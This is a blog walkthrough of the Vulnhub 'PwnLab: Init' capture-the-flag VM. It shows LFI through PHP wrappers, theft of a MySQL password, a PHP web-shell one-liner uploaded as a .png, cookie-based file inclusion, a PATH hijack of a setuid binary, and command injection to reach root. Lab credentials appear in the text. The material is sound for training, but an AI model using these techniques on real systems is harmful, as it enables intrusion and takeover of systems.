Friday, February 2, 2018

Vulnhub VM Walkthrough: PwnLab init

I have a lot of fun with vulnerable VMs from Vulnhub, but don't normally post any walkthroughs as there are plenty posted already.  However, in preparation for OSCP, in order to work on my skills in "writing the report as you go", I've decided to post a few walkthroughs for some of the more interesting/fun VMs I've done.

This VM is a relatively easy but it's a really fun one.  It's called PwnLab: Init. The purpose of this CTF is to get root and read the flag.

Let's get started!

We start with our enumeration.  I've customized Mike Czumak's python enumeration scanner script, so it's a "hit enter and wait" while it runs nmap, dirb, cewl, nikto, wfuzz, some brute forcers, and a whole bunch of other things.

Looking at the "quick" nmap scan output shows several ports open:

Port 39392 is interesting, but let's set that aside for now.  The VM is running a web server and mysql is open, always a tempting target.

Looking at the web server, it appears to be there to upload and share images.

Dirbuster's output shows the upload and image directories:

The Login page:

Standard operating procedure here is try common username/password combinations and SQL injection.  No joy, and running sqlmap came upempty.

The URL of


begs for local file inclusion (LFI), but that also provided no success.  Trying "login type confusion", such as


didn't work either.  Then I tried LFI using PHP protocol wrappers.  Wrappers allow you to operate on resources as if they were regular local files. This request will base64 encode the php config:

And we're provided with a web page with the php config output in base64.  Decoding the base64:

We have the MySQL root password.  Since the MySQL port is open on the system, we can use that password to login to MySQL remotely:

 We can find user passwords encoded in the "users" database:

We decode the base64 and have our usernames and passwords:

 kent  JWzXuBJJNy
 mike  SIfdsTEn6I
 kane  iSv5Ym2GRo

We then proceed to login as kent, which brings us to an apparent image upload page:

Uploading php shells failed, as the web server wouldn't let us upload anything with a .php extension.  gif and jpg/jpeg gave us an "Error 002" message.  However, uploading anything *.png worked, and the resulting page source provided us with a link to the image we uploaded.


So a php reverse shell was uploaded as phpshell.png by adding GIF89; to the top of the file.  Our listener was setup:

nc -nvlp 2545

However, when the uploaded file was accessed, no code ran and an error was shown:

I tried a simple cmd upload that didn't work either:

root@kali2:~/current/tools# cat cmd.png<?php $cmd=$_GET["cmd"]; echo `$cmd`; ?>

A Google search on "when your uploaded php reverse shell won't run commands properly" provided information about a file inclusion vulnerability on the cookie parameter (lang= ).  The following line is an example of the local file inclusion vulnerability in PHP:

require_once($LANG_PATH . ‘/’ . $_GET[‘lang’] . ‘.php’);

In this case an attacker controls the "lang" variable and can thereby force the application to execute an arbitrary file as code. The attacker does not however control the beginning of the require_once() argument, so including a remote file would not be possible. To exploit this I set the "lang" variable to the name of my uploaded php reverse shell, using my favorite tool, Burp Suite:

Send it, and we get a shell!  We spawn a tty using python, then see that we are logged in as the web service:

We grab kernel and distribution information for potential future use:

www-data@pwnlab:/$ uname -a
uname -a
Linux pwnlab 3.16.0-4-686-pae #1 SMP Debian 3.16.7-ckt20-1+deb8u4 (2016-02-29) i686GNU/Linux

www-data@pwnlab:/$ cat /etc/*-release
cat /etc/*-release
PRETTY_NAME="Debian GNU/Linux 8 (jessie)"NAME="Debian GNU/Linux"
VERSION="8 (jessie)"

Since we already have some usernames and passwords, let's try to login as one!

su kent


We easily login as kent.  We quickly discover that sudo isn't installed, so we can't run commands as root from this account.

kent@pwnlab:~$ sudo -l
sudo -l
bash: sudo: command notfound

Nothing really interesting was found logged in as kent, so let's try logging in as mike:

kent@pwnlab:~$ su mike
su mike
Password: SIfdsTEn6I
su: Authentication failure


Mike is smart and didn't use the same password he used on the website. =)
Let's try the last user, kane:

kent@pwnlab:~$ su kane
su kane
Password: iSv5Ym2GRo

We login as kane with no problem.  Of course, we might have been able to login as these individuals via ssh right away, but I didn't try that. =)

Moving into kane's home directory, we see an interesting file:

-rwsr-sr-x 1 mike mike 5148 Mar 17  2016 msgmike

file msgmike
msgmike: setuid, setgid ELF 32-bit LSB executable, Intel 80386, version 1 (SYSV), dynamically linked, interpreter /lib/, for GNU/Linux 2.6.32, BuildID[sha1]=d7e0b21f33b2134bd17467c3bb9be37deb88b365, not stripped

It's a binary, not a script.  It's setuid to mike, so when we run it, it runs with mike's rights and permissions.  We give it a try:

kane@pwnlab:~$ ./msgmike
cat: /home/mike/msg.txt: No such file or directory

It's immediately noticeable that the program executes "cat" on a file in mike's home directory.  In this case, we may be able to fool the program into running our version of "cat", in order to get a shell as mike.  Since right now we are logged in as kane and in kane's home directory, let's create a file called "cat" in kane's home directory:

echo "/bin/bash" > catchmod +x cat

Now that we have our "cat" that will execute a shell, we need to tell our shell to run our local version of cat before running /bin/cat.  We'll do this by prepending the local directory (".") in front of our normal PATH:

export PATH=.:$PATH

Now we run msgmike again:

kane@pwnlab:~$ ./msgmike


our local "cat" runs, launches bash, and we are now mike!

Now that we are mike, let's look around.  Another interesting file exists in mike's home directory:

-rwsr-sr-x 1 root root 5364 Mar 17  2016 msg2root

file msg2root
msg2root: setuid, setgid ELF 32-bit LSB executable, Intel 80386, version 1 (SYSV), dynamically linked, interpreter /lib/, for GNU/Linux 2.6.32, BuildID[sha1]=60bf769f8fbbfd406c047f698b55d2668fae14d3, not stripped

We see a program that apparently is used to send messages to root.  It's setuid root, which means it runs with root's rights and permissions, which is always glorious.=)  When we run it, it prompts us for a message:
mike@pwnlab:/home/mike$ ./msg2root
Message for root: Hello

It simply echos the message.  Anything that prompts for input should always be thoroughly tested.  Running "strings" on the file determines that it uses asprint, not "echo", so creating a local version of "echo" similar to what we did with "cat" wouldn't work here.

strings msg2root

But one of the first things we always try is appending a shellexecution command afterour message with a semicolon:

mike@pwnlab:/home/mike$ ./msg2root
Message for root: hello; /bin/bash


Hmmm....that didn't work.  I've ran into occasions where specifying/bin/sh does, however.  Changing/bin/bash to /bin/sh gives us a root shelland the flag:

A fun VM!  =)

No comments:

Post a Comment